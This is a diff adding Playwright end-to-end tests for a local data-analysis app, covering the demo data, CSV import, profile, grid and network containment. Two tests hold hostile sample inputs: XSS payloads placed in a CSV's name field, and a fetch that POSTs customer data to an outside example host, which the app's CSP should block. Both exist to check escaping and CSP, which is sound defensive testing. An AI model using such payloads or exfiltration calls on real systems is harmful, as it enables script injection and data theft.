@@ -1,0 +1,90 @@
+// The app as a user meets it, in Debian's Chromium against the browser host: the demo workspace, importing a
+// real CSV through the wizard, the profile, the grid, and that nothing leaves 127.0.0.1.
+import { existsSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, SHARED_DATA, shot, test } from './fixtures';
+
+const TELCO = join(SHARED_DATA, 'telco-churn', 'WA_Fn-UseC_-Telco-Customer-Churn.csv');
+
+test.describe('demo workspace', () => {
+  test.use({ hostOptions: { workspace: null } });
+
+  test('opens with the built-in demo data when no workspace is given', async ({ app }) => {
+    await expect(app.getByRole('button', { name: 'Dataset Demo customers' })).toBeVisible();
+    await expect(app.getByRole('button', { name: 'Dataset Demo journey events' })).toBeVisible();
+    await app.getByRole('button', { name: 'Dataset Demo customers' }).click();
+    await expect(app.getByRole('article', { name: 'Column nps_score' })).toBeVisible();
+    await shot(app, 'demo-profile-light');
+    await app.getByRole('button', { name: 'Switch to dark theme' }).click();
+    await shot(app, 'demo-profile-dark');
+    await app.getByRole('button', { name: 'Switch to light theme' }).click();
+    for (const view of ['Segments', 'Journeys', 'NPS', 'Audit', 'Present']) {
+      await app.getByRole('navigation', { name: 'Main' }).getByRole('button', { name: view }).click();
+      await expect(app.getByText(/coming next/i).first()).toBeVisible();
+    }
+    await shot(app, 'present-coming-next');
+  });
+});
+
+test('imports a real CSV through the wizard, with a type override, then shows its profile and grid', async ({ app }) => {
+  test.skip(!existsSync(TELCO), `../shared/data is absent (${TELCO}); this test needs the public Telco churn file`);
+  const chooser = app.waitForEvent('filechooser');
+  await app.getByRole('button', { name: 'Import data' }).first().click();
+  await app.getByRole('button', { name: 'Choose file…' }).click();
+  await (await chooser).setFiles(TELCO);
+  const type = app.getByLabel('Type of column SeniorCitizen');
+  await expect(type).toBeVisible();
+  await expect(app.getByLabel('Type of column TotalCharges')).toHaveValue('real');
+  await type.selectOption('integer');
+  await app.getByLabel('Dataset name').fill('telco');
+  await shot(app, 'wizard-review');
+  await app.getByRole('button', { name: 'Commit import' }).click();
+
+  const seniors = app.getByRole('article', { name: 'Column SeniorCitizen' });
+  await expect(seniors).toBeVisible({ timeout: 60_000 });
+  await expect(seniors.getByText('integer')).toBeVisible();
+  const total = app.getByRole('article', { name: 'Column TotalCharges' });
+  await expect(total.getByText('Missing')).toBeVisible();
+  await expect(total.locator('.cxw-kv-item').filter({ hasText: 'Missing' })).toContainText('11');
+  await shot(app, 'telco-profile');
+
+  await app.getByRole('tab', { name: 'Data grid' }).click();
+  await expect(app.getByTestId('grid-row-count')).toHaveText(/7,043 rows/);
+  const grid = app.getByRole('grid', { name: 'Rows of telco' });
+  await expect(grid).toHaveAttribute('aria-rowcount', '7044');
+  await grid.evaluate((el) => el.scrollTo({ top: el.scrollHeight }));
+  await expect(grid.getByRole('rowheader', { name: '7,043', exact: true })).toBeVisible();
+  await shot(app, 'telco-grid-bottom');
+});
+
+test('a customer name made of HTML renders as text, never as markup', async ({ app, host }) => {
+  const file = join(host.dir, 'xss.csv');
+  writeFileSync(file, 'customer_id,name,spend\n1,<img src=x onerror=alert(1)>,10\n2,"<script>alert(2)</script>",20\n');
+  const chooser = app.waitForEvent('filechooser');
+  await app.getByRole('button', { name: 'Import data' }).first().click();
+  await app.getByRole('button', { name: 'Choose file…' }).click();
+  await (await chooser).setFiles(file);
+  await app.getByRole('button', { name: 'Commit import' }).click();
+  await app.getByRole('tab', { name: 'Data grid' }).click();
+  const grid = app.getByRole('grid');
+  await expect(grid.getByText('<img src=x onerror=alert(1)>')).toBeVisible();
+  await expect(grid.getByText('<script>alert(2)</script>')).toBeVisible();
+  expect(await app.locator('.cxw-grid-body img').count()).toBe(0);
+});
+
+test('every request the page makes stays on 127.0.0.1, and the CSP refuses foreign fetches', async ({ app, requests, host }) => {
+  for (const view of ['Segments', 'Journeys', 'NPS', 'Audit', 'Present', 'Data']) {
+    await app.getByRole('navigation', { name: 'Main' }).getByRole('button', { name: view }).click();
+  }
+  const attempt = await app.evaluate(async () => {
+    try {
+      await fetch('https://example.com/collect', { method: 'POST', body: 'customer data' });
+      return 'sent';
+    } catch (err) {
+      return `blocked: ${String(err)}`;
+    }
+  });
+  expect(attempt).toMatch(/^blocked/);
+  expect(requests.length).toBeGreaterThan(3);
+  expect(requests.every((u) => u.startsWith(host.origin))).toBe(true);
+});
